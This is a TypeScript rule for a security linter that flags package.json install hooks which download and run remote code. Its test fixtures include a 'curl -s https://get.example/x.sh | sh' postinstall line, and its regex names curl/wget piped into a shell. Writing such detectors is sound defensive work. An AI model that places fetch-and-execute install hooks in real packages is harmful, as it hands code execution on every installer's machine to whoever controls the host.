import type { StaticRule } from '../rule.ts';

export const installScriptFromNetwork: StaticRule = {
  id: 'SLLM-INSTALL-SCRIPT',
  title: 'Install script that runs what it fetches',
  severity: 'high',
  why: 'Whoever controls that address, or the way to it, runs code wherever the package is installed, keys of the environment included.',
  fix: 'Publish what is needed in the package, or check a digest before it is run.',
  refs: ['LLM03:2025', 'CWE-494'],
  texts: {
    json(file, tell) {
      if (!/(?:^|\/)package\.json$/.test(file.path)) return;
      const { scripts } = (file.json ?? {}) as { readonly scripts?: Record<string, unknown> };
      for (const name of ['preinstall', 'install', 'postinstall', 'prepare']) {
        const script = scripts?.[name];
        if (typeof script !== 'string' || !FETCHED.test(script)) continue;
        const start = Math.max(0, file.text.indexOf(`"${name}"`));
        tell({ start, end: start + name.length + 2 });
      }
    },
  },
  bad: [
    { path: 'package.json', text: () => '{ "scripts": { "postinstall": "curl -s https://get.example/x.sh | sh" } }' },
  ],
  good: [
    {
      path: 'package.json',
      text: () => '{ "scripts": { "postinstall": "node scripts/build.js", "prepare": "husky" } }',
    },
    { path: 'package.json', text: () => '{ "scripts": { "dev:install": "curl -s https://get.example/x.sh | sh" } }' },
  ],
};

const FETCHED =
  /\b(?:curl|wget)\b[^\n]{0,500}(?:\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|\|\s*node\b|&&\s*(?:ba)?sh\b)|\b(?:ba)?sh\s+-c\s+["']?\$\((?:curl|wget)/;
